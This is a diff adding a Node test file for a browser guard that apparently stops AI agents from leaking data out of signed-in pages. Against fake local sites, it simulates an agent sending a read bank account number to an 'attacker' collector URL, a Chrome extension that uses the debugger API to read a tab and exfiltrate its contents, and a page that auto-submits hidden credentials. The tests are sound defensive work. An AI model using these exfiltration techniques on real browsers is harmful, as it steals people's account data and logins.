@@ -1,0 +1,144 @@
+// A debugger is there and touches nothing: an agent's reading is enough to be guarded, a developer's tools are nobody.
+import assert from 'node:assert/strict';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { request } from 'node:http';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { test } from 'node:test';
+import { handMissing, handOn, openBrowser, openScreen } from '../agents/person.mjs';
+import { playwrightHands } from '../agents/playwright.mjs';
+import { file, page, raw } from '../sites/html.mjs';
+import { flagsFor, startSites } from '../sites/server.mjs';
+import { HOSTS, PERSON, urlOf } from '../sites/world.mjs';
+import { extension } from './with-guard.mjs';
+
+const later = (ms) => new Promise((done) => setTimeout(done, ms));
+const took = ({ records }) => records.filter((r) => decodeURIComponent(r.url).includes(PERSON.account)).length;
+const CREDENTIALS = new URLSearchParams({ username: PERSON.user, password: PERSON.password }).toString();
+
+/** What a browser in which somebody signed in yesterday has kept. */
+function signedInYesterday(port) {
+  const headers = { host: HOSTS.bank, 'content-type': 'application/x-www-form-urlencoded' };
+  return new Promise((done) => {
+    const sent = request({ port, method: 'POST', path: '/login', headers }, (answer) => {
+      const [name, value] = answer.headers['set-cookie'][0].split(';')[0].split('=');
+      done({ name, value, url: urlOf('bank', '/') });
+    });
+    sent.end(CREDENTIALS);
+  });
+}
+
+test('an agent that only reads a signed-in page, and leaves by an address', { timeout: 60_000 }, async () => {
+  const sites = await startSites({});
+  const hands = await playwrightHands({ extension, args: flagsFor(sites) });
+  try {
+    await hands.page.context().addCookies([await signedInYesterday(sites.port)]);
+    // Not by the agent's tool, which would be a sign.
+    await hands.page.evaluate((url) => location.assign(url), urlOf('bank', '/account'));
+    await hands.page.waitForSelector('#account');
+    await later(1_500);
+    const read = await hands.page.evaluate(() => document.querySelector('#account').textContent);
+    await hands.page.goto(`${urlOf('attacker', '/c')}?d=${encodeURIComponent(read)}`).catch(() => undefined);
+    await later(800);
+    assert.equal(read, PERSON.account);
+    assert.equal(took(sites.collector), 0);
+  } finally {
+    await hands.close();
+    await sites.close();
+  }
+});
+
+/** An agent's extension, which finds a tab, attaches, reads it and goes: no pointer, no key. */
+const READER = `setTimeout(async () => {
+  const [tab] = await chrome.tabs.query({ url: '${urlOf('bank', '/*')}' });
+  await chrome.debugger.attach({ tabId: tab.id }, '1.3');
+  await new Promise((done) => setTimeout(done, 2500));
+  const { result } = await chrome.debugger.sendCommand({ tabId: tab.id }, 'Runtime.evaluate', { expression: "document.querySelector('#account').textContent" });
+  await chrome.tabs.update(tab.id, { url: '${urlOf('attacker', '/c')}?d=' + encodeURIComponent(result.value) });
+}, 4000);`;
+
+async function readerExtension() {
+  const folder = await mkdtemp(join(tmpdir(), 'interlock-reader-'));
+  const manifest = {
+    manifest_version: 3,
+    name: 'Reader',
+    version: '1',
+    permissions: ['debugger', 'tabs'],
+    host_permissions: ['<all_urls>'],
+    background: { service_worker: 'reader.js' },
+  };
+  await writeFile(join(folder, 'manifest.json'), JSON.stringify(manifest));
+  await writeFile(join(folder, 'reader.js'), READER);
+  return folder;
+}
+
+const DOOR = 'door.example';
+const HIDDEN = [...new URLSearchParams(CREDENTIALS)]
+  .map(([name, value]) => `<input type="hidden" name="${name}" value="${value}">`)
+  .join('');
+const SIGNS_IN = `<form method="post" action="${urlOf('bank', '/login')}">${HIDDEN}</form><script>document.forms[0].submit()</script>`;
+
+/** Opens a person's browser on a screen of its own, at a page of ours. */
+async function onScreen({ extensions, pages, url }, watch) {
+  const sites = await startSites({ extra: { [DOOR]: pages } });
+  const screen = await openScreen();
+  const browser = openBrowser({
+    extensions,
+    args: flagsFor(sites, [DOOR]),
+    environment: screen.environment,
+    url,
+  });
+  try {
+    return await watch(sites, handOn(screen.environment));
+  } finally {
+    await browser.close();
+    screen.close();
+    await sites.close();
+  }
+}
+
+test('an extension attaches to a page that was there before, and only reads', {
+  timeout: 60_000,
+  skip: handMissing(),
+}, async () => {
+  const reader = await readerExtension();
+  const pages = () => page({ title: 'Door', name: 'Door', body: raw(SIGNS_IN) });
+  const extensions = extension ? [extension, reader] : [reader];
+  const taken = await onScreen({ extensions, pages, url: `http://${DOOR}/` }, async (sites) => {
+    await later(11_000);
+    return took(sites.collector);
+  });
+  await rm(reader, { recursive: true });
+  assert.equal(taken, 0);
+});
+
+test('open developer tools make nobody an agent', { timeout: 60_000, skip: handMissing() }, async () => {
+  const told = [];
+  const pages = ({ path, query }) => {
+    if (path === '/tell') told.push({ native: query.get('native'), width: Number(query.get('width')) });
+    if (path === '/tell') return file('text/plain', '');
+    const tells = `setInterval(() => fetch('/tell?width=' + innerWidth + '&native=' + /native code/.test(HTMLFormElement.prototype.submit)), 300)`;
+    return page({
+      title: 'Signed in',
+      name: 'Signed in',
+      body: raw(`<a href="/logout">Sign out</a><script>${tells}</script>`),
+    });
+  };
+  const extensions = extension ? [extension] : [];
+  await onScreen({ extensions, pages, url: 'about:blank' }, async (_, hand) => {
+    await later(2_000);
+    await hand.goTo(`http://${DOOR}/`);
+    await later(1_500);
+    await hand.press('ctrl+shift+i');
+    await later(4_000);
+    await hand.press('ctrl+r');
+    await later(2_500);
+  });
+  const widths = told.map(({ width }) => width);
+  assert.ok(Math.min(...widths) < Math.max(...widths), `the tools are open beside the page (${widths})`);
+  assert.deepEqual(
+    told.filter(({ native }) => native !== 'true'),
+    [],
+    'something of ours was put into it',
+  );
+});
